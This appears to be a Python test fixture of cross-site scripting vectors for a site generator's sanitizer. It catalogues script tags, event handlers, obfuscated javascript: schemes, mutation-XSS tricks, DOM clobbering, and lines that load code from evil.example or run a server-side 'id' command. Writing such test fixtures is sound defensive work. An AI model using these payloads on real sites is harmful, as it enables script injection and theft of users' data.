"""Attack vectors: every known family of scripts in Markdown and HTML, in front matter, settings and names."""

# A script that runs says so; a request goes to a host that no page of the tests may ask.
RUN = "window.ran=1;alert(1)"
IMAGE = f"<img src=x onerror={RUN}>"
VECTORS = {
    "script": f"<script>{RUN}</script>",
    "script in a paragraph": f"a <script>{RUN}</script> b",
    "script from elsewhere": "<script src=https://evil.example/x.js></script>",
    "script with a slash": f"<script/x>{RUN}</script/y>",
    "split script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "unclosed script in a paragraph": f"a <script>{RUN}",
    "image": f'<img src=x onerror="{RUN}">',
    "tags within a value": f'<abbr title="<pre>{IMAGE}</h2><a href=javascript:{RUN}>">a</abbr>',
    "image with slashes": f"<img/src=x/onerror={RUN}>",
    "image with a backtick": f"<img src=`x`onerror={RUN}>",
    "image with an upper-case event": f"<IMG SRC=x ONERROR={RUN}>",
    "image with a newline": f"<img src=x\nonerror\n=\n{RUN}>",
    "image with a form feed": f"<img\fsrc=x\fonerror={RUN}>",
    "image set": f"<img srcset=x src=x onerror={RUN}>",
    "events on allowed tags": f'<b onmouseover="{RUN}" onfocus="{RUN}" tabindex=1 autofocus>b</b>',
    "details": f'<details open ontoggle="{RUN}"><summary>a</summary>b</details>',
    "svg": f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "svg script": f"<svg><script>{RUN}</script></svg>",
    "svg link": f'<svg><a xlink:href="javascript:{RUN}"><text y=20>a</text></a></svg>',
    "svg use": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
    "math": f'<math><maction actiontype="statusline#" xlink:href="javascript:{RUN}">a</maction></math>',
    "iframe": f'<iframe src="javascript:{RUN}"></iframe>',
    "iframe source": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "iframe that breaks out": f'<iframe src="https://example.org/&quot;><script>{RUN}</script>"></iframe>',
    "object": f'<object data="javascript:{RUN}"></object><embed src="javascript:{RUN}">',
    "object data": "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
    "video": f'<video><source onerror="{RUN}"></video><audio src=x onerror="{RUN}"></audio>',
    "style": "<style>@import 'https://evil.example/x.css'; main{display:none}</style>",
    "style attribute": '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">a</p>',
    "stylesheet": '<link rel=stylesheet href="https://evil.example/x.css">',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "form": '<form action="https://evil.example/"><input name=q><button>Go</button></form>',
    "nested forms": f'<form id=a><div></form><form id=b><input formaction="javascript:{RUN}" type=image>',
    "button": f'<button form=x formaction="javascript:{RUN}">a</button>',
    "frames": f'<frameset onload="{RUN}"><frame src="javascript:{RUN}"></frameset>',
    "body": f'<body onload="{RUN}" class=x id=y>',
    "marquee": f'<marquee onstart="{RUN}">a</marquee>',
    "isindex": f'<isindex type=image src=x onerror="{RUN}">',
    "link": f"[a](javascript:{RUN})",
    "link in capitals": "[a](JaVaScRiPt:alert(1))",
    "link with an entity": "[a](java&#10;script:alert(1))",
    "link with a colon entity": "[a](javascript&colon;alert(1))",
    "link behind a control character": "[a](&#1;javascript:alert(1))",
    "link in angles": "[a](<javascript:alert(1)>)",
    "autolink": "<javascript:alert(1)>",
    "link by reference": "[a]\n\n[a]: javascript:alert(1)",
    "raw link": f'<a href="javascript:{RUN}">a</a>',
    "raw link with a tab": f'<a href="java\tscript:{RUN}">a</a>',
    "raw link with a newline": f'<a href="\njava\nscript:{RUN}">a</a>',
    "raw link with entities": "<a href=&#106;&#97;vascript&#58;alert(1)>a</a>",
    "raw link behind a control character": f'<a href="\x01javascript:{RUN}">a</a>',
    "vbscript": "[a](vbscript:msgbox(1))",
    "file": "[a](file:///etc/passwd)",
    "data": "[a](data:text/html,<script>alert(1)</script>)",
    "data with base64": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "feed": "[a](feed:javascript:alert(1))",
    "our own scheme": '<a href="sitegen:x">a</a> [a](sitegen:x)',
    "ping": '<a href="https://example.org/" ping="https://evil.example/" target="_top">a</a>',
    "svg image": "![a](data:image/svg+xml,<svg/onload=alert(1)>)",
    "blob": "![a](blob:https://example.org/x)",
    "javascript image": "![a](javascript:alert(1))",
    "ids": '<a id="location" name="cookie">a</a><p id="main">b</p><p id="search">c</p>',
    "names": '<img name="getElementById" src="https://example.org/a.png"><a name="body">x</a>',
    "heading": "# constructor\n\n# __proto__",
    "ends of the page": "a</p></article></main></body></html>b",
    "unclosed blocks": "<div><section><blockquote>",
    "a second page": "<!DOCTYPE html><html><head><title>x</title></head><body><main><h1>y</h1></main>",
    "unclosed quotation mark": '<a href="https://example.org/>a\n\nb',
    "unclosed tag": "<b <i <u",
    "unclosed table": "<table><tr><td><table><tr>",
    "select": f"<select><option><p><script>{RUN}</script>",
    "template": f"<template><script>{RUN}</script></template>",
    "noscript": f'<noscript><p title="</noscript>{IMAGE}"></noscript>',
    "textarea": f'<textarea><img title="</textarea>{IMAGE}"></textarea>',
    "title": f'<title><a title="</title>{IMAGE}"></title>',
    "xmp": f'<xmp><p title="</xmp>{IMAGE}"></xmp>',
    "plaintext": "<plaintext>",
    "comment": f"<!-- {IMAGE} -->",
    "empty comment": f"<!-->{IMAGE}-->",
    "comment with an odd end": f"<!-- --!>{IMAGE} -->",
    "comment of Internet Explorer": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    "processing instruction": f"<?xml {IMAGE} ?>",
    "character data": f"<![CDATA[ {IMAGE} ]]>",
    "title of a link": "[a](https://example.org/ '\"</a><script>alert(1)</script>')",
    "title of an image": '![a](https://example.org/a.png "x\\" onerror=alert(1) y=\\"")',
    "words of an image": '![a" onerror="alert(1)](https://example.org/a.png)',
    "address of a link": '[a](https://example.org/"onmouseover="alert(1))',
    "language of code": '```"><img/src=x/onerror=alert(1)>\nx\n```',
    "code": f"```html\n<script>{RUN}</script>\n```",
    "label of a footnote": f'a[^"><img/src=x/onerror={RUN}>]\n\n[^"><img/src=x/onerror={RUN}>]: b',
    "cell of a table": f"| {IMAGE} |\n|---|\n| <script>{RUN}</script> |",
    "template of Jinja": "{{ 7*7 }}{% raw %}{{ ''.__class__.__mro__ }}",
    "mutation through math": "<math><mtext><table><mglyph><style>"
    "<!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "mutation through svg": f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    "mutation through forms": f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>{IMAGE}">',
    "mutation through annotation": f'<math><annotation-xml encoding="text/html"><p><style>{IMAGE}</style>',
    "mutation through a font": f'<svg><font color="x"><p title="</svg>{IMAGE}">',
    "entities that make a tag": f"&lt;script&gt;{RUN}&lt;/script&gt;",
    "escaped twice": f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    "classes of the page": '<p class="masthead skip" data-pagefind-ignore data-x=1>a</p>',
    "an attribute that names another": '<a title="href=" href=https://example.org/ data-line="99">a</a>',
    "half a pair of surrogates": "&#xD83D;<b>&#xDE00;</b>",
}

_SENTINEL = "https://sentinel.invalid/x"
_EVENTS = (
    "abort afterprint animationcancel animationend animationiteration animationstart auxclick beforeinput beforematch "
    "beforeprint beforetoggle beforeunload begin blur bounce cancel canplay change click close "
    "contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend dragenter drop "
    "durationchange end ended error finish focus focusin focusout formdata fullscreenchange gesturestart "
    "gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadstart message mousedown "
    "mouseenter mouseover mousewheel pagehide pageshow paste pause play playing pointerdown pointerenter pointerover "
    "pointerrawupdate popstate progress ratechange repeat reset resize scroll scrollend search "
    "securitypolicyviolation seeking select selectionchange selectstart show slotchange stalled start submit suspend "
    "timeupdate toggle touchstart transitionend unhandledrejection unload volumechange waiting webkitanimationstart "
    "webkitplaybacktargetavailabilitychanged wheel "
).split()
_SCHEMES = {
    "javascript": f"javascript:{RUN}",
    "in capitals": f"JaVaScRiPt:{RUN}",
    "behind spaces": f"  javascript:{RUN}",
    "behind a control character": f"\x01javascript:{RUN}",
    "with a tab": f"java\tscript:{RUN}",
    "with a line's end": f"java\nscript:{RUN}",
    "with an entity": f"java&Tab;script&colon;{RUN}",
    "with numbers": f"&#0000106avascript&#x3A;{RUN}",
    "with a comment": f"javascript://%0a{RUN}",
    "with a no-break space": f"\u00a0javascript:{RUN}",
    "with a soft hyphen": f"java\u00adscript:{RUN}",
    "with full width": f"ｊavascript:{RUN}",
    "vbscript": "vbscript:MsgBox(1)",
    "livescript": f"livescript:{RUN}",
    "data": f"data:text/html,<script>{RUN.replace('window', 'top')}</script>",
    "data of XML": f"data:application/xml,<x xmlns='http://www.w3.org/1999/xhtml' onload='{RUN}'/>",
    "view-source": f"view-source:javascript:{RUN}",
    "jar": f"jar:javascript:{RUN}!/",
    "feed": f"feed:javascript:{RUN}",
    "blob": f"blob:javascript:{RUN}",
    "filesystem": f"filesystem:javascript:{RUN}",
    "intent": "intent://x#Intent;scheme=javascript;end",
}
_ADDRESSES = {
    "a link": '<a href="{}">a</a>',
    "an area": '<map name=m><area href="{}"></map><img usemap="#m">',
    "an image": '<img src="{}">',
    "a small image": '<img lowsrc="{0}" dynsrc="{0}" longdesc="{0}">',
    "an image set": '<picture><source srcset="{0} 1x"><img srcset="{0} 1x"></picture>',
    "a background": '<table background="{0}"><tr><td background="{0}">a</table><body background="{0}">',
    "a quotation": '<blockquote cite="{0}">a</blockquote><q cite="{0}">a</q><del cite="{0}">a</del>',
    "an iframe": '<iframe src="{0}"></iframe><frame src="{0}">',
    "an object": '<object data="{0}" codebase="{0}" classid="{0}" archive="{0}"></object><embed src="{0}">',
    "an applet": '<applet code="{0}" codebase="{0}"></applet>',
    "a form": '<form action="{0}"><button formaction="{0}">a</button><input type=image src="{0}" formaction="{0}">',
    "media": '<video src="{0}" poster="{0}"><source src="{0}"><track src="{0}"></video><audio src="{0}"></audio>',
    "a link of the head": '<link rel="stylesheet" href="{0}"><link rel=import href="{0}"><link rel=icon href="{0}">',
    "a base": '<base href="{0}">',
    "a refresh": '<meta http-equiv=refresh content="0;url={0}">',
    "a script": '<script src="{0}"></script>',
    "an import": "<style>@import '{0}';li{{list-style-image:url({0})}}</style>",
    "a style": '<p style="background:url({0});behavior:url({0});-moz-binding:url({0})">a</p>',
    "a drawing": '<svg><a xlink:href="{0}"><text>a</text></a><image href="{0}"/><use href="{0}"/></svg>',
    "a drawing's script": '<svg><script href="{0}"/><script xlink:href="{0}"></script></svg>',
    "an animation": '<svg><a><animate attributeName=href values="{0}"/><text>a</text></a></svg>',
    "a change": '<svg><a><set attributeName=href to="{0}"/><text>a</text></a></svg>',
    "a formula": '<math href="{0}"><mtext xlink:href="{0}">a</mtext></math>',
    "a manifest": '<html manifest="{0}" profile="{0}"><isindex action="{0}">',
    "Markdown": "[a](<{0}>) ![a](<{0}>) <{0}> [b]\n\n[b]: <{0}>",
}
VECTORS |= {
    f"{place}: {name}": form.format(address) for place, form in _ADDRESSES.items() for name, address in _SCHEMES.items()
}
VECTORS |= {
    f"reaching out: {place}": form.format(_SENTINEL)
    for place, form in _ADDRESSES.items()
    # These may lead to anywhere, and an image may come from anywhere.
    if place not in {"a link", "an image", "a quotation", "Markdown"}
}
_EVERY_EVENT = " ".join(f'on{event}="{RUN}"' for event in _EVENTS)
VECTORS |= {
    f"every event: {tag}": f"<{tag} {_EVERY_EVENT} tabindex=0 autofocus contenteditable>x</{tag}>"
    for tag in "a b p div details img li ol table td time section svg math x-a video input body marquee".split()
}
_CONTEXTS = "noscript textarea title style xmp iframe noembed noframes template plaintext script select option".split()
VECTORS |= {
    f"mutation: {outer} in {context}": f'<{outer}><{context}><p title="</{context}>{IMAGE}"></{context}></{outer}>'
    for outer in ("svg", "math", "svg><foreignObject", "svg><desc", "math><mtext", "table", "p", "select", "form")
    for context in _CONTEXTS
}
VECTORS |= {
    "mutation: comment in style": f"<svg><style><!--</style>{IMAGE}--></style></svg>",
    "mutation: CDATA in a drawing": f'<svg><![CDATA[><image xlink:href="]]>{IMAGE}">',
    "mutation: glyph": f"<math><mtext><table><mglyph><style><![CDATA[</style>{IMAGE}]]></mglyph>",
    "mutation: malignmark": f'<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>{IMAGE}">',
    "mutation: caption": f"<table><caption><svg><title><style></style></title></svg>{IMAGE}</caption></table>",
    "mutation: nested forms": f"<form><div></form><form><math><mtext></form><form><mglyph><style></math>{IMAGE}",
    "mutation: deep": f"{'<div>' * 190}<table><caption>{'<b>' * 5}{IMAGE}",
    "mutation: a processing instruction": f"<?xml-stylesheet ><img src=x onerror={RUN}> ?>",
    "mutation: an unquoted attribute": f"<a title=`<b title='`{IMAGE}'>",
    "mutation: a quote in a name": f"<p id='x\"{IMAGE}'>",
    "mutation: white space of Unicode": f"<img\u00a0src=x\u00a0onerror={RUN}> <img\u2028src=x onerror={RUN}>",
    "mutation: NUL": f"<scr\0ipt>{RUN}</scr\0ipt><img src=x oner\0ror={RUN}> <im\0g src=x onerror={RUN}>",
    "mutation: seven bits": f"+ADw-script+AD4-{RUN}+ADw-/script+AD4- \u00bcscript\u00be{RUN}\u00bc/script\u00be",
    "mutation: overlong": "%c0%bcscript%c0%be \ufffdscript\ufffd",
    "mutation: half a tag at the end": f"<img src=x onerror={RUN} x=",
    "mutation: tags in tags": f"<<script>script>{RUN}<</script>/script>",
    "mutation: backticks": f"<img src=`x` onerror=`{RUN}`>",
    "clobbering": "".join(
        f'<a id="{name}"></a><a id="{name}" name="x"></a><img name="{name}"><form name="{name}"><input name="{name}">'
        for name in "document location window top self parent body head forms cookie domain currentScript ran search "
        "results status q facets __proto__ constructor toString attributes nodeName childNodes".split()
    ),
    "ids of the page": "".join(f'<p id="{name}">x</p>' for name in "top main search results s-top note-back".split()),
    "info of code": f'```python" onload={RUN} class="x\n{IMAGE}\n```\n\n~~~ <script>{RUN}</script>\nx\n~~~',
    "attributes of Markdown": f"# a {{onclick={RUN} #location}}\n\n[a](https://example.org){{onclick={RUN}}}",
    "words of an image in an image": f"![![{IMAGE}](https://example.org/a.png)](https://example.org/a.png)",
    "a definition": f"[a][x]\n\n[x]: https://example.org/'onclick={RUN}' (\" onclick={RUN} x=\")",
    "an address found": f"https://example.org/\"onmouseover={RUN}// www.example.org/'><img/src=x/onerror={RUN}>",
    "code in every language": "".join(
        f"```{name}\n{IMAGE}<script>{RUN}</script>\n```\n\n" for name in "html xml php js css md svg diff text".split()
    ),
    "a list of definitions": f"{IMAGE}\n: <script>{RUN}</script>",
    "a task": f"- [x] {IMAGE}\n- [ ] <script>{RUN}</script>",
    "a note within": f"x^[{IMAGE}] y[^1]\n\n[^1]: <script>{RUN}</script>{IMAGE}",
    "an expression": f'<p style="width:expression({RUN})">a</p><div style="xss:expr/**/ession({RUN})">a</div>',
    "speculation": '<script type="speculationrules">{"prefetch":[{"urls":["https://sentinel.invalid/"]}]}</script>',
    "shadow": f'<div><template shadowrootmode="open"><script>{RUN}</script>{IMAGE}</template></div>',
    "popover": f'<button popovertarget=x>a</button><div popover id=x onbeforetoggle="{RUN}">a</div>',
    "custom element": f'<x-a is="script" onfocus="{RUN}" autofocus tabindex=1>a</x-a>',
    "a module": f"<script type=module>{RUN}</script><script nomodule>{RUN}</script>",
    "import map": f'<script type="importmap">{{"imports":{{"x":"data:text/javascript,{RUN}"}}}}</script>',
    "server side": f'<!--#exec cmd="id"--><?php {RUN} ?><% {RUN} %>',
    "opener": '<a href="https://example.org/" target="_blank" rel="opener">a</a>',
}
